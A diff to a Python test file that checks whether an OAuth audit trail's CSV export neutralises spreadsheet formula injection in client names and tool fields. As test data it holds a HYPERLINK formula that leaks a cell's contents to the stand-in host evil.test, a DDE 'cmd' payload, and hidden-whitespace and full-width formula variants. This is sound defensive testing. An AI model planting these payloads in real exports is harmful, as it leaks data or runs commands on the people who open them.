@@ -18,8 +18,8 @@ from tests.factories import make_membership, make_organization
 from tests.oauth.support import OAuthTestCase
 
 FORMULA = '=HYPERLINK("http://evil.test/?x="&B2,"Open report")'
-# Registration refuses control characters, so the tab and carriage return variants
-# reach the trail only through a row written with them (an older row, another writer).
+# Registration refuses control and invisible characters, so these reach the trail only
+# through a row written with them (an older row, another writer).
 REGISTRABLE_NAMES = (FORMULA, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)")
 CONTROL_NAMES = ("\t=1+2", "\r=1+2")
 
@@ -78,7 +78,7 @@ class FormulaInAClientNameTests(OAuthTestCase):
                     organization_id=self.member.organization_id,
                     client_id=f"client-{index}",
                     client_name=name,
-                    tool="=list_modules",
+                    tool=name,
                 )
                 for index, name in enumerate(CONTROL_NAMES)
             ]
@@ -86,12 +86,13 @@ class FormulaInAClientNameTests(OAuthTestCase):
 
         rows = list(csv.DictReader(io.StringIO(self.export("csv"), newline="")))
 
-        self.assertEqual([row["client_name"] for row in rows], ["'" + name for name in CONTROL_NAMES])
-        self.assertEqual({row["tool"] for row in rows}, {"'=list_modules"})
+        self.assertEqual([row["tool"] for row in rows], ["'" + name for name in CONTROL_NAMES])
+        # A client's name is display-safe first: the control character shows as U+FFFD, no formula left.
+        self.assertEqual([row["client_name"] for row in rows], ["\ufffd=1+2", "\ufffd=1+2"])
 
     def test_a_formula_behind_white_space_or_in_full_width_is_neutralised(self) -> None:
         # An import that trims cells drops the spaces; NFKC reads the full-width sign as "=".
-        hidden = (" =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\uff1d1+1", "\uff0bSUM(1)")
+        hidden = (" =1+1", "\u00a0=1+1", "\u3000=1+1", "\uff1d1+1", "\uff0bSUM(1)")
         self.connect_clients_named(*hidden)
 
         rows = list(csv.DictReader(io.StringIO(self.export("csv"))))
